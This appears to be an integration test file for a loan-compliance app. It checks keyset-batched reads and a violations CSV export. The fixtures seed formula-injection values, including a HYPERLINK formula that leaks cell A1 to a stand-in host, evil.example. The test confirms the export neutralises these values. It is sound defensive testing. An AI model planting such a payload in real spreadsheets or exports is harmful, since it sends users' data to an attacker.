// Exports against a real PostgreSQL: keyset batches cover every row exactly once across batch boundaries, and
// the streamed violations CSV parses back to the queue's rows, with formulas neutralised and the export audited.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Harness, startServerHarness } from "../support/server-harness";

let harness: Harness;
let borrowerId: string;
const bulk = 5_003;
const now = new Date("2026-03-01T12:00:00.000Z");

beforeAll(async () => {
  harness = await startServerHarness();
  const borrower = await harness.db.borrower.create({
    data: { firstName: "=Dana", lastName: "Exporter", email: "dana@example.com", loanReference: "EXP-1" },
  });
  borrowerId = borrower.id;
  const base = {
    borrowerId,
    ruleKey: "policy-active",
    severity: "HIGH" as const,
    outcome: "FAIL" as const,
    evidence: { required: "active", found: "cancelled" },
    firstSeenAt: new Date("2026-01-10T08:30:00.000Z"),
    lastSeenAt: new Date("2026-02-20T09:45:00.000Z"),
  };
  await harness.db.violation.createMany({
    data: Array.from({ length: bulk }, (_, index) => ({ ...base, message: `Bulk violation ${index}` })),
  });
  await harness.db.violation.createMany({
    data: [
      { ...base, status: "RESOLVED", message: "Resolved one", resolvedAt: new Date("2026-02-21T00:00:00Z") },
      { ...base, status: "RESOLVED", message: "Resolved two", resolvedAt: new Date("2026-02-22T00:00:00Z") },
    ],
  });
  await harness.db.violation.create({
    data: {
      ...base,
      ruleKey: "vin-match",
      severity: "CRITICAL",
      status: "WAIVED",
      message: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      evidence: { required: "1HGCM82633A004352", found: "@SUM(1+1)" },
      waivedUntil: new Date("2026-04-01T00:00:00.000Z"),
      waiverReason: "-dealer confirmed by phone",
    },
  });
});
afterAll(() => harness.close());

describe("keyset batches", () => {
  it.each([
    [2_000, [2_000, 2_000, 1_003]],
    [bulk, [bulk]],
    [bulk + 1, [bulk]],
  ])("with batches of %i, read every row once: %j", async (batchSize, sizes) => {
    const { keysetBatches } = await import("@/lib/server/exports/keyset-batches");
    const where = { borrowerId, message: { startsWith: "Bulk" } };
    const batches: string[][] = [];
    for await (const batch of keysetBatches(
      (lastId, limit) =>
        harness.db.violation.findMany({
          where: lastId === undefined ? where : { ...where, id: { gt: lastId } },
          orderBy: { id: "asc" },
          take: limit,
          select: { id: true },
        }),
      batchSize,
    ))
      batches.push(batch.map((row) => row.id));

    expect(batches.map((batch) => batch.length)).toEqual(sizes);
    const ids = batches.flat();
    expect(new Set(ids).size).toBe(bulk);
    const stored = await harness.db.violation.findMany({ where, select: { id: true } });
    expect(new Set(ids)).toEqual(new Set(stored.map((row) => row.id)));
  });
});

describe("the violations export", () => {
  async function exportCsv(filters: Record<string, string>) {
    const { exportViolations } = await import("@/lib/server/exports/export-violations");
    const { parseViolationListParams } = await import("@/lib/violations/violation-list-params");
    const response = await exportViolations({
      filters: parseViolationListParams(filters).filters,
      actor: harness.admin,
      now,
    });
    // Decoded by hand: `response.text()` would drop the byte order mark this test checks for.
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
    return { response, text, records: parse(text, { bom: true, columns: true }) as Record<string, string>[] };
  }

  it("streams every live violation as a download that parses back, neutralising formulas", async () => {
    const { response, text, records } = await exportCsv({});

    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="coverwatch-violations-2026-03-01.csv"',
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(text.startsWith("\uFEFFBorrower,Loan reference,Rule,")).toBe(true);
    expect(records).toHaveLength(bulk + 1);
    expect(Object.keys(records[0] ?? {})).toEqual([
      "Borrower",
      "Loan reference",
      "Rule",
      "Severity",
      "Status",
      "Outcome",
      "Message",
      "Required",
      "Found",
      "First seen",
      "Last seen",
      "Resolved at",
      "Waived until",
      "Waiver reason",
      "Assignee",
      "Assignee email",
      "Due",
    ]);
    expect(records.find((record) => record.Message === "Bulk violation 4321")).toEqual({
      Borrower: "'=Dana Exporter",
      "Loan reference": "EXP-1",
      Rule: "Policy active",
      Severity: "HIGH",
      Status: "OPEN",
      Outcome: "FAIL",
      Message: "Bulk violation 4321",
      Required: "active",
      Found: "cancelled",
      "First seen": "2026-01-10T08:30:00.000Z",
      "Last seen": "2026-02-20T09:45:00.000Z",
      "Resolved at": "",
      "Waived until": "",
      "Waiver reason": "",
      Assignee: "",
      "Assignee email": "",
      Due: "",
    });
    expect(records.find((record) => record.Status === "WAIVED")).toMatchObject({
      Rule: "Collateral vehicle on the policy",
      Message: `'=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
      Found: "'@SUM(1+1)",
      "Waived until": "2026-04-01T00:00:00.000Z",
      "Waiver reason": "'-dealer confirmed by phone",
    });
    const cells = records.flatMap((record) => Object.values(record));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("applies the queue's filters, and records who exported what", async () => {
    const resolved = await exportCsv({ status: "RESOLVED", severity: "HIGH" });
    const byMessage = resolved.records.toSorted((a, b) => String(a.Message).localeCompare(String(b.Message)));
    expect(byMessage.map((record) => [record.Message, record["Resolved at"]])).toEqual([
      ["Resolved one", "2026-02-21T00:00:00.000Z"],
      ["Resolved two", "2026-02-22T00:00:00.000Z"],
    ]);
    // Like the queue page, a value it does not know is ignored rather than refused.
    const critical = await exportCsv({ severity: "CRITICAL", status: "NOPE" });
    expect(critical.records.map((record) => record.Status)).toEqual(["WAIVED"]);
    expect((await exportCsv({ olderThanDays: "60" })).records).toHaveLength(0);

    const audits = await harness.db.auditLog.findMany({
      where: { action: "violations.exported", actorId: harness.admin.id },
      orderBy: { id: "asc" },
    });
    const sort = { key: "first-seen", isDescending: false };
    expect(audits.slice(-3).map((audit) => audit.details)).toEqual([
      { filters: { status: "RESOLVED", severity: "HIGH" }, sort },
      { filters: { severity: "CRITICAL" }, sort },
      { filters: { olderThanDays: 60 }, sort },
    ]);
  });
});
